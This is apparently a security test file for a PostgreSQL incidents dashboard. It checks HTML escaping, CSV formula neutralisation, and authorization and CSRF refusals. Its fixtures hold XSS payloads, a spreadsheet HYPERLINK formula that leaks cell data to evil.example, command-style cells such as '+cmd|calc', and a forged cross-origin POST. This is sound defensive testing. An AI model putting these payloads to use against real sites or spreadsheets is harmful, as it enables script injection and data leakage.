// Review of the incidents dashboard (issue 18) as an attacker: every client-chosen string an
// incident can carry (a role name, an application name, a client address the log says, the
// summary made of them, group values, tags and responses from a custom rule, the inputs' names,
// even an id a writer chose) shown on the list, the page, the error page and the exports without
// becoming markup or a spreadsheet formula; the actions refused to the unauthenticated, a viewer,
// a GET, and a session without its CSRF token.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { FastifyInstance } from 'fastify';
import pg from 'pg';
import pino from 'pino';
import { configSchema } from '../../src/core/config.ts';
import { createPool } from '../../src/core/db.ts';
import type { Alert } from '../../src/detect/alert.ts';
import { migrateRepository, storeIncident } from '../../src/repository/index.ts';
import { SESSION_COOKIE, addToken, addUser, buildApp } from '../../src/server/index.ts';
import { startCluster, type Cluster } from '../harness/postgres.ts';

const PASSWORD = 'a long enough test password';
const ORIGIN = 'http://localhost:80';
const X = (tag: string) => `"><script>alert('${tag}')</script><img src=x onerror=alert(1)>`;
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

function alert(id: string, extra: Partial<Alert> = {}): Alert {
  return {
    rule: 'brute_force', severity: 'high', state: 'open', id, server: 'db1',
    first_ts: '2026-11-23T10:00:00.000Z', last_ts: '2026-11-23T10:00:05.000Z', count: 6,
    user: X('user'), database: X('db'), client_addr: X('client'), application: X('app'),
    group: { user: X('group') }, summary: `6 failed logins for ${X('summary')}`, tags: [X('tag')],
    events: [{ input: X('input'), position: 1 }],
    sessions: [], notices: 1, responses: [{ would: X('would') } as never, { other: X('other') } as never], ...extra,
  };
}

describe('review: the incidents dashboard under attack', () => {
  let cluster: Cluster;
  let pool: pg.Pool;
  let app: FastifyInstance;
  let adminToken: string;
  let viewerToken: string;
  const get = (url: string, token = adminToken) => app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${token}` } });
  const sessionOf = async (user: string) => {
    const response = await app.inject({
      method: 'POST', url: '/login', headers: { 'content-type': 'application/x-www-form-urlencoded', origin: ORIGIN },
      payload: new URLSearchParams({ user, password: PASSWORD, next: '/' }).toString(),
    });
    return response.cookies.find((c) => c.name === SESSION_COOKIE)!.value;
  };
  const noMarkup = (body: string, where: string) => {
    assert.ok(!body.includes('<script>alert('), `${where}: a <script> got through`);
    assert.ok(!body.includes('<img src=x'), `${where}: an <img> got through`);
  };

  before(async () => {
    cluster = await startCluster({ flavor: 'pg17' });
    await cluster.createDatabase('repo');
    const client = new pg.Client({ connectionString: cluster.url('repo') });
    await client.connect();
    await migrateRepository(client);
    await client.end();
    pool = createPool({ url: cluster.url('repo'), label: 'repo' }, 'pgwarden serve review', 4);
    await storeIncident(pool, alert('a1b2c3'));
    // a writer may choose the id and the rule and severity too (the engine's are hex and config)
    await storeIncident(pool, alert(X('id'), { rule: X('rule'), severity: X('severity') as never, summary: FORMULA, user: '+cmd|calc', application: '@SUM(1)' }));
    await addUser(pool, 'admin', 'admin', PASSWORD);
    await addUser(pool, 'vera', 'viewer', PASSWORD);
    adminToken = (await addToken(pool, 'admin', 'tests', null)).token;
    viewerToken = (await addToken(pool, 'vera', 'tests', null)).token;
    app = (await buildApp({ pool, config: configSchema.parse({}).serve, log: pino({ level: 'silent' }) })).app;
  });
  after(async () => {
    await app?.close();
    await pool?.end();
    await cluster?.stop();
  });

  it('no client-chosen string becomes markup on the list, the pages, the error page or the Overview', async () => {
    const admin = await sessionOf('admin');
    const page = (url: string) => app.inject({ method: 'GET', url, cookies: { [SESSION_COOKIE]: admin } });
    const list = await page(`/incidents?from=3650d&rule=${encodeURIComponent(X('filter'))}`);
    assert.equal(list.statusCode, 200);
    noMarkup(list.body, 'list with a hostile filter');
    const all = await page('/incidents?from=3650d');
    assert.equal(all.statusCode, 200);
    noMarkup(all.body, 'list');
    assert.ok(all.body.includes('&lt;script&gt;alert(&#39;summary&#39;)') || all.body.includes('&lt;script&gt;alert(&#x27;summary&#x27;)'), 'the summary is shown, escaped');
    for (const id of ['a1b2c3', X('id')]) {
      const one = await page(`/incident?id=${encodeURIComponent(id)}`);
      assert.equal(one.statusCode, 200, one.body);
      noMarkup(one.body, `incident ${id}`);
      assert.ok(!/value="[^"]*"><script/.test(one.body), 'the hidden id input is not broken out of');
    }
    const missing = await page(`/incident?id=${encodeURIComponent(X('missing'))}`);
    assert.equal(missing.statusCode, 404);
    noMarkup(missing.body, 'error page');
    const overview = await page('/');
    noMarkup(overview.body, 'overview');
    // the Overview's card of open incidents leads to a list that has them (any time)
    const card = /<a class="card[^"]*" href="([^"]*)"[^>]*>\s*<div class="n">2<\/div><div class="what">open incidents/.exec(overview.body)
      ?? /href="(\/incidents\?state=open[^"]*)"/.exec(overview.body);
    assert.ok(card, 'the card links to the open incidents');
    const open = await page(card[1]!.replaceAll('&amp;', '&'));
    assert.equal(open.statusCode, 200);
    assert.equal((open.body.match(/href="\/incident\?id=/g) ?? []).length, 2, 'both open incidents are listed');
    // the JSON is served as JSON (a browser does not render it as a page)
    const api = await get(`/api/incident?id=${encodeURIComponent(X('id'))}`);
    assert.match(String(api.headers['content-type']), /^application\/json/);
  });

  it('the CSV export neutralises cells a spreadsheet would run as formulas', async () => {
    const csv = await get('/api/incidents/export?from=3650d&format=csv');
    assert.equal(csv.statusCode, 200);
    assert.match(String(csv.headers['content-type']), /text\/csv/);
    const cells = csv.body.split(/,|\r\n/).map((c) => c.replace(/^"|"$/g, ''));
    for (const cell of cells) assert.ok(!/^[=+\-@\t\r]/.test(cell), `a formula cell: ${cell}`);
    assert.ok(csv.body.includes("'=HYPERLINK("), 'the summary is there, quoted');
    assert.ok(csv.body.includes("'+cmd|calc") && csv.body.includes("'@SUM(1)"));
  });

  it('nobody but an admin changes the state or comments: unauthenticated, viewer, GET, no CSRF, forged origin', async () => {
    const post = (url: string, headers: Record<string, string>, payload: string | object) => app.inject({ method: 'POST', url, headers, payload });
    const body = { id: 'a1b2c3', state: 'resolved' };
    for (const url of ['/incident/state', '/incident/comment']) {
      const b = url.endsWith('comment') ? { id: 'a1b2c3', comment: 'x' } : body;
      assert.equal((await post(url, { 'content-type': 'application/json' }, b)).statusCode, 401, `${url} unauthenticated`);
      assert.equal((await post(url, { 'content-type': 'application/x-www-form-urlencoded', origin: ORIGIN }, new URLSearchParams(b).toString())).statusCode, 401, `${url} form, unauthenticated`);
      assert.equal((await post(url, { authorization: `Bearer ${viewerToken}`, 'content-type': 'application/json' }, b)).statusCode, 403, `${url} viewer token`);
      assert.equal((await post(url, { authorization: 'Bearer not-a-token', 'content-type': 'application/json' }, b)).statusCode, 401, `${url} bad token`);
      const viaGet = await app.inject({ method: 'GET', url: `${url}?${new URLSearchParams(b).toString()}`, headers: { authorization: `Bearer ${adminToken}` } });
      assert.equal(viaGet.statusCode, 404, `${url} by GET`);
      const admin = await sessionOf('admin');
      // a session without the token (a cross-site form), and with a text/plain body (no preflight)
      const forged = await app.inject({ method: 'POST', url, cookies: { [SESSION_COOKIE]: admin }, headers: { 'content-type': 'application/x-www-form-urlencoded', origin: 'https://evil.example' }, payload: new URLSearchParams(b).toString() });
      assert.equal(forged.statusCode, 403, `${url} forged form`);
      const plain = await app.inject({ method: 'POST', url, cookies: { [SESSION_COOKIE]: admin }, headers: { 'content-type': 'text/plain' }, payload: JSON.stringify(b) });
      assert.ok([400, 403, 415].includes(plain.statusCode), `${url} text/plain: ${plain.statusCode}`);
    }
    const { rows } = await pool.query("SELECT state, (SELECT pg_catalog.count(*)::int FROM pgwarden_repo.incident_comments) AS comments FROM pgwarden_repo.incidents WHERE id = 'a1b2c3'");
    assert.deepEqual(rows, [{ state: 'open', comments: 0 }], 'nothing changed');
  });
});
